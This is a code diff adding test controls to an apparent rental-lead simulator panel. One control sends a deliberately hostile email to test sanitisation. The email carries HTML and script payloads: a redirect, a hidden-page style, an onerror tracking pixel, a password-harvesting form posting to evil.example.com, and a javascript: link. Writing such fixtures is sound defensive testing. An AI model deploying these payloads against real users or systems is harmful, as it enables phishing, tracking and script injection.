@@ -4,6 +4,21 @@ import { colleaguesOf, type SectionContext, type PanelSection } from './section.
 
 const channels = ['TEXT_MESSAGE', 'WEBFORM', 'EMAIL', 'CALL'] as const
 
+const zones = ['America/Los_Angeles', 'Pacific/Honolulu', 'America/New_York', 'America/Chicago'] as const
+
+/** A mail that tries what mails must not do. */
+const hostileMail = {
+  subject: '<script>document.title = "hostile"</script>',
+  message: 'Is it still free?',
+  html: [
+    '<style>* { display: none !important }</style><base href="https://evil.example.com/">',
+    '<script>top.location = "https://evil.example.com/"</script>',
+    '<img src="https://evil.example.com/pixel.gif" width="1" height="1" onerror="alert(1)">',
+    '<form action="https://evil.example.com/"><input name="password"></form>',
+    '<p>Is it <a href="javascript:alert(2)">still free</a>?</p>',
+  ].join(''),
+} as const
+
 /** A lead, and what renters do. */
 export function leadSection(context: SectionContext): PanelSection {
   const picker = leadPicker({
@@ -77,6 +92,29 @@ export function leadSection(context: SectionContext): PanelSection {
     }),
   ]
   let made = 0
+  const trouble = [
+    button({
+      label: 'Hostile mail',
+      icon: 'mail',
+      hint: 'Writes a mail whose markup tries to run, to hide the page and to call home',
+      press: does((leadId) => sim.do('leadMails', { leadId, ...hostileMail }), 'wrote a hostile mail.'),
+    }),
+    button({
+      label: 'Another zone',
+      hint: 'Moves the property of the lead to the next time zone: Los Angeles, Honolulu, New York, Chicago',
+      press: () =>
+        context.act(async () => {
+          const lead = context.lead()
+          if (!lead) return undefined
+          const { property } = await sim.do('row', { leadId: lead.id })
+          if (!property) return `${lead.name} asks about no property.`
+          const timeZone = zones[moved++ % zones.length] ?? 'America/Chicago'
+          await sim.do('setPropertyZone', { propertyId: property.id, timeZone })
+          return `${property.name} is in ${timeZone}.`
+        }),
+    }),
+  ]
+  let moved = 0
   const arrives = linkButton({
     label: 'New lead',
     icon: 'userPlus',
@@ -94,10 +132,10 @@ export function leadSection(context: SectionContext): PanelSection {
       }),
   })
   return {
-    element: section('A lead', arrives, picker.element, grid(2, ...buttons)),
+    element: section('A lead', arrives, picker.element, grid(2, ...buttons, ...trouble)),
     lead(lead) {
       picker.show(lead)
-      block(buttons, lead ? undefined : 'Choose a lead first.')
+      block([...buttons, ...trouble], lead ? undefined : 'Choose a lead first.')
     },
   }
 }
